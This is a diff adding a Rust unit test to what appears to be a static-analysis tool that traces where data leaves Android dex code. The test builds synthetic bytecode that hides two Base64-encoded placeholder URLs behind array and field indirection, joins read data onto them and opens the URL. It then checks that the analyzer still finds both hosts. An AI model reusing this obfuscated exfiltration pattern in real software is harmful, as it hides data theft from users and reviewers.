@@ -386,6 +386,75 @@ fn an_address_that_is_hidden_by_a_key_is_known_where_data_leaves() {
     );
 }
 
+/// Characters of the file are made a text, deciphered into an array, kept in a field, and taken from there.
+#[test]
+fn each_address_of_an_array_that_is_computed_is_known_where_data_leaves() {
+    let url = "Ljava/net/URL;";
+    let texts = "[Ljava/lang/String;";
+    let of_text = "(Ljava/lang/String;)Ljava/lang/String;";
+    let (all, _) = leaks(|dex| {
+        create(dex, |m| {
+            read(m, 1);
+            m.new_instance(0, "La/H;")
+                .invoke_direct("La/H;", "<init>", "()V", &[0]);
+            m.iget(2, 0, "La/H;", "all", texts)
+                .array_length(0, 2)
+                .aget_object(2, 2, 0);
+            m.const_int(0, 1).new_array(0, 0, "[C");
+            m.fill_array_data(0, 2, b"/\0");
+            m.invoke_static(STRING, "valueOf", "([C)Ljava/lang/String;", &[0])
+                .move_result_object(0);
+            for part in [0, 1] {
+                m.invoke_virtual(STRING, "concat", of_text, &[2, part]);
+                m.move_result_object(2);
+            }
+            m.new_instance(0, url);
+            m.invoke_direct(url, "<init>", "(Ljava/lang/String;)V", &[0, 2]);
+            m.invoke_virtual(url, "openStream", "()Ljava/io/InputStream;", &[0]);
+            m.return_void();
+        });
+        let class = dex.class("La/H;");
+        class
+            .static_field("hidden", texts, None)
+            .instance_field("all", texts);
+        class.clinit(3, |m| {
+            m.const_string(0, "aHR0cDovL2EuZXhhbXBsZQ==")
+                .const_string(1, "aHR0cDovL2IuZXhhbXBsZQ==");
+            m.filled_new_array(&[0, 1], texts).move_result_object(0);
+            m.sput(0, "La/H;", "hidden", texts).return_void();
+        });
+        class.constructor("()V", 2, |m| {
+            m.invoke_direct("Ljava/lang/Object;", "<init>", "()V", &[1]);
+            m.invoke_static("La/H;", "all", "()[Ljava/lang/String;", &[])
+                .move_result_object(0);
+            m.iput(0, 1, "La/H;", "all", texts).return_void();
+        });
+        class.method("all", "()[Ljava/lang/String;", 5, |m| {
+            m.const_int(0, 2).new_array(0, 0, texts);
+            for n in 0..2 {
+                m.sget(1, "La/H;", "hidden", texts).const_int(2, n);
+                m.aget_object(1, 1, 2).const_int(3, 0);
+                m.invoke_static(
+                    "Landroid/util/Base64;",
+                    "decode",
+                    "(Ljava/lang/String;I)[B",
+                    &[1, 3],
+                );
+                m.move_result_object(1).new_instance(3, STRING);
+                m.invoke_direct(STRING, "<init>", "([B)V", &[3, 1])
+                    .aput_object(3, 0, 2);
+            }
+            m.return_object(0);
+        });
+    });
+    for host in ["a.example", "b.example"] {
+        assert!(
+            all.iter().any(|leak| leak.contains(&format!("{host}/"))),
+            "{host}: {all:?}"
+        );
+    }
+}
+
 #[test]
 fn code_that_nobody_starts_sends_nothing() {
     let (all, _) = leaks(|dex| {
